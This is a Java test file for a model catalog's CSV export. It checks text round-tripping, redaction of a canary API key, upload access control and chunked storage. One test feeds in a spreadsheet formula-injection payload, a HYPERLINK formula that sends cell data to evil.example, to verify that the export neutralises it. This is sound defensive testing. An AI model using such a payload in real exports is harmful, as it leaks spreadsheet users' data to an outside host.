package dev.quartermaster.catalog;

import static dev.quartermaster.catalog.CatalogFixtures.MODELS;
import static dev.quartermaster.support.Names.unique;
import static org.assertj.core.api.Assertions.assertThat;

import dev.quartermaster.identity.Permissions;
import dev.quartermaster.platform.Changes;
import dev.quartermaster.platform.Storage;
import dev.quartermaster.secrets.SecretOwner;
import dev.quartermaster.secrets.Vault;
import dev.quartermaster.support.QuartermasterTest;
import dev.quartermaster.support.SecondServer;
import dev.quartermaster.support.TestApi;
import dev.quartermaster.support.TestResponse;
import dev.quartermaster.support.TestUsers;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.UUID;
import javax.sql.DataSource;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

@QuartermasterTest
class ModelExportTest {

    private static final String CANARY = "sk-canary-3f9a1c77e2b84d0b9a6e";

    @Autowired
    JdbcClient jdbc;

    @Autowired
    Changes changes;

    @Autowired
    Vault vault;

    @Autowired
    DataSource dataSource;

    @Autowired
    Storage storage;

    TestApi admin;

    @BeforeEach
    void setUp(TestApi api) {
        admin = api.asAdmin();
    }

    @Test
    void awkwardTextSurvivesARoundTripThroughAStandardCsvReader() throws IOException {
        String value = unique("csv");
        String name = "Quote \"q\", comma; ünïcødé ✓ 模型";
        String description = "line one\r\nline two, with \"quotes\"\nand a trailing comma,";
        UUID profile = CatalogFixtures.profile(jdbc, changes, "openai", "Profile, with comma " + value);
        vault.put(new SecretOwner("provider_profiles", profile.toString(), "api_key"), CANARY);
        UUID id = CatalogFixtures.id(CatalogFixtures.create(admin, """
                {"name": %s, "description": %s, "value": "%s", "provider_ids": ["%s"], "capabilities": ["chat", "code"]}
                """.formatted(json(name), json(description), value, profile)), "model_id");

        JsonNode exported = admin.post(MODELS + "export", "{}").json();
        TestResponse file = admin.get("/api/v5/uploads/" + exported.get("upload_id").stringValue());

        assertThat(file.status()).isEqualTo(200);
        assertThat(file.header("Content-Type")).startsWith("text/csv");
        assertThat(file.header("Content-Disposition")).contains(exported.get("file_name").stringValue());
        assertThat(file.body()).doesNotContain(CANARY).doesNotContain(CANARY.substring(CANARY.length() - 8));
        List<CSVRecord> records = parse(file.body());
        assertThat(records).hasSize(exported.get("row_count").intValue());
        CSVRecord row = records.stream().filter(r -> r.get("model_id").equals(id.toString())).findFirst().orElseThrow();
        assertThat(row.get("name")).isEqualTo(name);
        assertThat(row.get("description")).isEqualTo(description);
        assertThat(row.get("value")).isEqualTo(value);
        assertThat(row.get("provider_profiles")).isEqualTo("Profile, with comma " + value + " (openai)");
        assertThat(row.get("capabilities")).isEqualTo("chat; code");
        assertThat(row.get("active")).isEqualTo("true");
    }

    @Test
    void cellsASpreadsheetWouldRunAreNeutralisedAndReadBackByDroppingOneQuote() throws IOException {
        String value = unique("formula");
        String name = "=HYPERLINK(\"https://evil.example/?d=\"&C2,\"Open\")";
        String description = "'quoted already";
        UUID profile = CatalogFixtures.profile(jdbc, changes, "openai", "+evil " + value);
        UUID id = CatalogFixtures.id(CatalogFixtures.create(admin, """
                {"name": %s, "description": %s, "value": "%s", "provider_ids": ["%s"]}
                """.formatted(json(name), json(description), value, profile)), "model_id");

        JsonNode exported = admin.post(MODELS + "export", "{\"model_id\": \"" + id + "\"}").json();
        TestResponse file = admin.get("/api/v5/uploads/" + exported.get("upload_id").stringValue());

        assertThat(file.body()).doesNotContain(",=HYPERLINK").doesNotContain(",+evil");
        CSVRecord row = parse(file.body()).getFirst();
        assertThat(row.get("name")).isEqualTo("'" + name);
        assertThat(row.get("provider_profiles")).isEqualTo("'+evil " + value + " (openai)");
        assertThat(row.get("description")).isEqualTo("''quoted already");
        assertThat(stored(row.get("name"))).isEqualTo(name);
        assertThat(stored(row.get("description"))).isEqualTo(description);
        assertThat(stored(row.get("value"))).isEqualTo(value);
    }

    /** The documented way back to the stored value: one leading {@code '} dropped. */
    private static String stored(String cell) {
        return cell.startsWith("'") ? cell.substring(1) : cell;
    }

    @Test
    void exportsOneModelWhenAsked() throws IOException {
        UUID id = CatalogFixtures.createModel(admin, "Only me", unique("one"));

        JsonNode exported = admin.post(MODELS + "export", "{\"model_id\": \"" + id + "\"}").json();
        List<CSVRecord> records = parse(admin.get("/api/v5/uploads/" + exported.get("upload_id").stringValue()).body());

        assertThat(exported.get("row_count").intValue()).isEqualTo(1);
        assertThat(records).singleElement().extracting(r -> r.get("model_id")).isEqualTo(id.toString());
        assertThat(admin.post(MODELS + "export", "{\"model_id\": \"" + UUID.randomUUID() + "\"}").status()).isEqualTo(404);
    }

    @Test
    void anUploadIsDownloadableOnlyByWhoExportedIt(TestApi api) {
        TestUsers.TestUser reader = TestUsers.create(api, "free", Permissions.MODELS_READ);
        String uploadId = admin.post(MODELS + "export", "{}").json().get("upload_id").stringValue();

        assertThat(api.withKey(reader.key()).get("/api/v5/uploads/" + uploadId).status()).isEqualTo(404);
        assertThat(admin.get("/api/v5/uploads/" + UUID.randomUUID()).status()).isEqualTo(404);
        assertThat(admin.get("/api/v5/uploads/not-a-uuid").status()).isEqualTo(400);
    }

    @Test
    void anExportMadeThroughOneServerIsDownloadableThroughAnother() throws IOException {
        String prefix = unique("big");
        // ~2.5 KB of CSV per model, mostly multi-byte characters: 600 of them need more than one 1 MiB chunk
        String description = "ünïcødé 模型, \"quoted\"\r\n".repeat(80);
        int models = 600;
        jdbc.sql("""
                insert into catalog_models (name, description, value, provider, tier)
                select ? || ' ' || i, ?, ? || '-' || i, 'openai', 'free' from generate_series(1, ?) i
                """).params(prefix, description, prefix, models).update();
        changes.publish(Catalog.TOPIC);
        try (SecondServer second = new SecondServer(dataSource)) {
            JsonNode exported = second.api().asAdmin().post(MODELS + "export", "{}").json();
            UUID uploadId = CatalogFixtures.id(exported, "upload_id");
            TestResponse file = admin.get("/api/v5/uploads/" + uploadId);

            assertThat(file.status()).as(file.body()).isEqualTo(200);
            assertThat(file.header("Content-Type")).startsWith("text/csv");
            assertThat(file.header("Content-Disposition")).contains(exported.get("file_name").stringValue());
            List<CSVRecord> records = parse(file.body());
            assertThat(records).hasSize(exported.get("row_count").intValue());
            assertThat(records).filteredOn(r -> r.get("value").startsWith(prefix + "-")).hasSize(models)
                    .allSatisfy(r -> assertThat(r.get("description")).isEqualTo(description));
            assertThat(count("select count(*) from catalog_upload_chunks where upload_id = ?", uploadId)).isGreaterThan(1);
            assertThat(storage.dataDir().resolve("uploads")).doesNotExist();
            assertThat(second.bean(Storage.class).dataDir().resolve("uploads")).doesNotExist();
        } finally {
            jdbc.sql("delete from catalog_models where value like ? || '-%'").param(prefix).update();
            changes.publish(Catalog.TOPIC);
        }
    }

    @Test
    void anExportGoesAwayWithTheUserWhoMadeIt(TestApi api) {
        TestUsers.TestUser reader = TestUsers.create(api, "free", Permissions.MODELS_READ);
        TestApi asReader = api.withKey(reader.key());
        UUID uploadId = CatalogFixtures.id(asReader.post(MODELS + "export", "{}").json(), "upload_id");

        assertThat(asReader.get("/api/v5/uploads/" + uploadId).status()).isEqualTo(200);
        assertThat(admin.delete("/api/v1/system/users/" + reader.id()).status()).isEqualTo(200);
        assertThat(count("select count(*) from catalog_uploads where id = ?", uploadId)).isZero();
        assertThat(count("select count(*) from catalog_upload_chunks where upload_id = ?", uploadId)).isZero();
    }

    private long count(String sql, Object... params) {
        return jdbc.sql(sql).params(params).query(Long.class).single();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
    }

    private static String json(String text) {
        return TestApi.JSON.writeValueAsString(text);
    }
}
